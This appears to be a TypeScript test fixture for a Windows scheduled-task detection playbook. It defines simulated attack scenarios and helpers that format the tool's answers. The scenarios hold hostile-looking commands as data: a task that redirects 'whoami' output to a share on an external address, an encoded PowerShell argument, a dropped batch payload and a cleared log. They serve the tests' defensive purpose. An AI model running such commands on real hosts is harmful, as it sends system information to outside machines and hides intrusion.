/** Whole stories for the playbook, with what lies beside their chains, and its answers in one line each. */
import { findChains } from '../../src/chains/find-chains.ts'
import type { Answer, ChainAnswers } from '../../src/domain/answers.ts'
import type { Chain, ChainInput } from '../../src/domain/chain.ts'
import type { WindowsEvent } from '../../src/domain/event.ts'
import { type ChecklistRow, fillChecklist } from '../../src/playbook/checklist.ts'
import {
  admin,
  adminSid,
  at,
  atexec,
  auditedAll,
  command,
  coverage,
  hostFacts,
  input,
  scheduler,
  World,
} from './events.ts'
import { answersFor, type Beside, trace } from './playbook.ts'

const day = 24 * 3_600_000
const world = new World()
const whole: Partial<ChainInput> = {
  coverage: [
    coverage(world, 'Security', { from: at(-3 * day) }),
    coverage(world, scheduler, { from: at(-3 * day), eventIds: [106, 129, 200, 201] }),
  ],
  hosts: [hostFacts(world, { auditPolicy: { ...auditedAll, '0CCE9226-69AE-11D9-BED3-505054503030': 1 } })],
}
const plain = { settings: { enabled: true, hidden: false, allowStartOnDemand: true, all: {} } }
const overTcp = (ip: string, path: string, run: string, args?: string): WindowsEvent[] => [
  world.logon(-20, '0x2000', ip),
  world.created(0, '0x2000', { clientPid: 0, path, definition: command(run, args, plain) }),
]
const pipes = (...ips: readonly string[]): WindowsEvent[] => [
  ...ips.map((ip, n) => world.pipe(-20 + n, `0x100${n}`, ip)),
  world.logon(-7, '0x2000', undefined),
  world.created(0, '0x2000'),
]
const program = 'C:\\Program Files\\a.exe'
const networkService = { sid: 'S-1-5-20' as typeof adminSid, name: 'NETWORK SERVICE', domain: 'NT AUTHORITY' }

/** Title → records, coverage, and what lies beside. */
export const stories: Readonly<
  Record<string, () => readonly [readonly WindowsEvent[], Partial<ChainInput>?, Beside?]>
> = {
  'atexec, everything audited': () => [atexec(world), whole],
  'a creation without any other log': () => [[world.created(0, '0x2000')]],
  'an administrator, an internal address and a known name, with encoded PowerShell': () => [
    [
      world.privileges(-19, '0x2000'),
      ...overTcp(
        '10.0.0.66',
        '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
        'powershell.exe',
        '-enc RwBlAHQALQBEAGEAdABlAA==',
      ),
    ],
    whole,
  ],
  'no administrator, an external address and a name made by chance': () => [
    [
      { ...world.logon(-26, '0x1000', '203.0.113.9'), elevated: false, workstation: 'WS07' },
      world.pipe(-20, '0x1000', '203.0.113.9'),
      { ...world.logon(-7, '0x2000', undefined), elevated: false },
      world.created(0, '0x2000', { path: '\\bouWFQYO' }),
    ],
    whole,
  ],
  'work at the host': () => [
    [
      world.logon(-20, '0x2000', undefined, { type: 2 }),
      world.created(0, '0x2000', { definition: command(program, undefined, { ...plain, principals: [] }) }),
    ],
    whole,
  ],
  'upkeep by a service': () => [
    [
      world.change('task-updated', 0, '0x3e4', {
        account: networkService,
        definition: command('C:\\Windows\\System32\\sc.exe', 'start x', plain),
      }),
    ],
    whole,
  ],
  'two sessions at the pipe, both inside': () => [pipes('10.0.0.66', '10.0.0.7'), whole],
  'two sessions at the pipe, one outside': () => [pipes('10.0.0.66', '203.0.113.7'), whole],
  'only the task history': () => [
    [world.history('registered', 0), world.history('process-created', 500, { pid: 976 })],
    whole,
  ],
  'a task that never ran': () => [
    [...overTcp('10.0.0.66', '\\Quirk', program), world.history('registered', -1)],
    whole,
  ],
  'output sent to another machine': () => [
    [
      ...overTcp('10.0.0.66', '\\Quirk', 'cmd.exe', '/c whoami > \\\\203.0.113.9\\s\\out'),
      world.history('instance-started', 5),
    ],
    whole,
  ],
  'the built-in Administrator with a payload, a cleared log and an update': () => [
    [
      world.logon(-20, '0x2000', '10.0.0.66', {
        account: { ...admin, sid: 'S-1-5-21-1-2-3-500' as typeof adminSid },
      }),
      {
        ...world.access(-10, '0x2000', 'C$', 'Temp\\run.bat', 0x2),
        account: { ...admin, sid: 'S-1-5-21-1-2-3-500' as typeof adminSid },
      },
      world.created(0, '0x2000', {
        account: { ...admin, sid: 'S-1-5-21-1-2-3-500' as typeof adminSid },
        definition: command('C:\\Temp\\run.bat', undefined, plain),
      }),
      world.cleared(60_000),
    ],
    whole,
  ],
  'atexec with all that followed it': () => [
    atexec(world),
    whole,
    {
      traces: [
        trace('task-work', -2 * day, { sid: adminSid, subject: '\\Other' }),
        trace('task-work', -day, { sid: adminSid, subject: '\\Other' }),
        trace('explicit-logon', 5000, { sid: adminSid, server: 'fs02', ip: '10.0.0.9', port: 445 }),
        trace('connection', 50, {
          pid: 976,
          image: 'C:\\Windows\\System32\\cmd.exe',
          ip: '203.0.113.9',
          port: 443,
        }),
        trace('transfer', 60),
        trace('account-change', 100, { sid: adminSid, what: 'account x made' }),
        trace('account-change', 200, { eventId: 4722, subjectSid: adminSid }),
        trace('group-change', 110),
        trace('service', 300, { logonId: '0x2000' as never, what: 'service y' }),
        trace('malware', 400, { what: 'Trojan z' }),
        trace('rdp-client', 500, { server: 'fs03' }),
      ],
    },
  ],
}

/** `id answer (value) records - what is missing: state` */
const line = ({ id, answer, value, citations, missing }: Answer): string =>
  [
    `${id} ${answer}`,
    value === undefined ? '' : ` (${value})`,
    citations.length ? ` ${citations.length}` : '',
    missing.length ? ` - ${missing.map((one) => `${one.telemetry}: ${one.state}`).join(', ')}` : '',
  ].join('')
/** Answers of a story's first chain. */
export function answersOf(title: string): ChainAnswers {
  const [events, more, beside] = stories[title]?.() ?? [[]]
  const [first] = answersFor(input(events, more), beside)
  if (!first) throw new Error(`no chain in ${title}`)
  return first
}

/** The chain the answers are about. */
export function chainOf(title: string): Chain {
  const [events, more] = stories[title]?.() ?? [[]]
  const [first] = findChains(input(events, more))
  if (!first) throw new Error(`no chain in ${title}`)
  return first
}

/** `id: answer (value) records - what is missing` of one row of the checklist. */
export const rowLine = ({ id, automatic }: ChecklistRow): string =>
  automatic
    ? `${id}: ${automatic.answer}${automatic.value === undefined ? '' : ` (${automatic.value})`} ${automatic.citations.length}${automatic.missing.length ? ` - ${automatic.missing.length}` : ''}`
    : id

export const told = (answers: ChainAnswers) => ({
  validation: answers.validation.map(line),
  questions: answers.questions.map(line),
  escalation: answers.escalation.map(line),
  rule: [answers.rule.outcome, ...answers.rule.conditions.map(({ id, answer }) => `${id} ${answer}`)],
  evidence: [
    `${answers.evidence.disposition} ${answers.evidence.outcome}`,
    ...answers.evidence.reasons.map(
      ({ id, weighs, isStrong, citations }) => `${id} ${weighs}${isStrong ? '!' : ''} ${citations.length}`,
    ),
  ],
  conflicts: answers.conflicts.map(({ id, citations }) => `${id} ${citations.length}`),
  iocs: answers.iocs.map(({ type, value, citations }) => `${type} = ${value} ${citations.length}`),
})

/** Every sentence of the answers, but those that only say what a log covers. */
export const sentences = (answers: ChainAnswers): readonly string[] =>
  [
    ...[...answers.validation, ...answers.questions, ...answers.escalation].map(
      ({ id, why }) => `${id}: ${why}`,
    ),
    `rule: ${answers.rule.why}`,
    ...answers.rule.conditions.filter(({ id }) => id.endsWith('-name')).map(({ id, why }) => `${id}: ${why}`),
    `evidence: ${answers.evidence.why}`,
    ...answers.evidence.reasons.map(({ id, what }) => `${id}: ${what}`),
    ...answers.conflicts.flatMap(({ id, rule, evidence }) => [`${id}: ${rule}`, `${id}: ${evidence}`]),
  ].filter((text) => !/absence proves nothing|would have been recorded/.test(text))

/** What the checklist adds of its own. */
export const checklistSentences = (title: string): readonly string[] =>
  fillChecklist(chainOf(title), answersOf(title), undefined)
    .filter(({ id, automatic }) => automatic && !/^(validate|question|escalate|check)-/.test(id))
    .map(({ id, automatic }) => `${id}: ${automatic?.why}`)
    .filter((text) => !/would have been recorded/.test(text))
